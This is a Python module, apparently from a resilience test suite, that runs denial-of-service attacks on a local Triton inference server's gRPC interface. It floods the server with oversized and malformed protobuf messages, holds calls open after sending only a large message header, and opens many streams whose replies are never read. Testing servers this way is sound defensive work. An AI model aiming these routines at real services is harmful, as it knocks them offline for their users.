"""Attacks on the gRPC server; the honest client beside them asks by gRPC too."""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from threading import Thread

import grpc
from tritonclient.grpc import service_pb2 as proto

from siege.bodies import LARGEST
from siege.http2 import HeldCalls

SERVICE = "/inference.GRPCInferenceService/"
INFER = f"{SERVICE}ModelInfer"
TIMEOUT_SECONDS = 60.0
INPUT, NUMBER, NAME = b"\x2a\0", b"\x78\x01", b"\x0a\x80\x80\x80\x1e"
PARAMETER = b"\x22\x09\x0a\x03abc\x12\x02\x10\x01"
"""An input of nothing, a field that nobody knows, a name of LARGEST bytes, a parameter."""
Outcomes = Counter[str]


def call(message: bytes, clients: int, port: int, seconds: float) -> Outcomes:
    """Call ModelInfer from several connections for so long, or once; return what came of it."""
    outcomes, until = Outcomes(), time.monotonic() + seconds

    def client() -> None:
        with channel(port) as opened:
            ask = opened.unary_unary(INFER)
            while True:
                try:
                    ask(message, timeout=TIMEOUT_SECONDS)
                    outcomes["OK"] += 1
                except grpc.RpcError as error:
                    outcomes[error.code().name] += 1
                if time.monotonic() > until:
                    break

    threads = [Thread(target=client, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + TIMEOUT_SECONDS)
    return outcomes


def channel(port: int) -> grpc.Channel:
    """Return a connection of its own."""
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)]
    return grpc.insecure_channel(f"127.0.0.1:{port}", options)


def hold(method: str, count: int, port: int, seconds: float) -> Outcomes:
    """Begin calls, send the head of a large message on each, and go on with none."""
    outcomes, until = Outcomes(), time.monotonic() + seconds
    connections = [HeldCalls(port) for _ in range(4)]
    begin = b"\0" + LARGEST.to_bytes(4, "big") + bytes(100)
    for number in range(count):
        with suppress(OSError):
            connections[number % 4].begin(SERVICE + method, begin)
            outcomes["begun"] += 1
    while time.monotonic() < until:
        time.sleep(0.1)
        outcomes["ended"] = sum(each.look() for each in connections)
    for each in connections:
        each.close()
    return outcomes


def read_nothing(port: int, seconds: float) -> Outcomes:
    """Ask on many streams, of whose answers none is taken."""
    asked, until = sound().SerializeToString(), time.monotonic() + seconds
    outcomes = Outcomes()

    def ask() -> None:
        with channel(port) as opened:
            call = opened.stream_stream(f"{SERVICE}ModelStreamInfer")(iter([asked] * 20_000))
            outcomes["streams"] += 1
            time.sleep(max(0.0, until - time.monotonic()))
            call.cancel()

    threads = [Thread(target=ask, daemon=True) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + TIMEOUT_SECONDS)
    return outcomes


def sound(raw: bytes = bytes(64)) -> proto.ModelInferRequest:
    """Return a request to `tiny`."""
    inputs = [{"name": "INPUT__0", "datatype": "FP32", "shape": [len(raw) // 64, 16]}]
    return proto.ModelInferRequest(model_name="tiny", inputs=inputs, raw_input_contents=[raw])


def calling(message: Callable[[], bytes]) -> tuple[partial[Outcomes], int]:
    """Return the strike that calls with a message by two clients, and the size of both."""
    data = message()
    return partial(call, data, 2), 2 * len(data)


MESSAGES: dict[str, Callable[[], bytes]] = {
    "grpc-inputs": lambda: INPUT * (LARGEST // len(INPUT)),
    "grpc-parameters": lambda: PARAMETER * (LARGEST // len(PARAMETER)),
    "grpc-fields": lambda: NUMBER * (LARGEST // len(NUMBER)),
    "grpc-name": lambda: NAME + b"a" * LARGEST,
    "grpc-tensors": lambda: sound(bytes(LARGEST)).SerializeToString(),
}
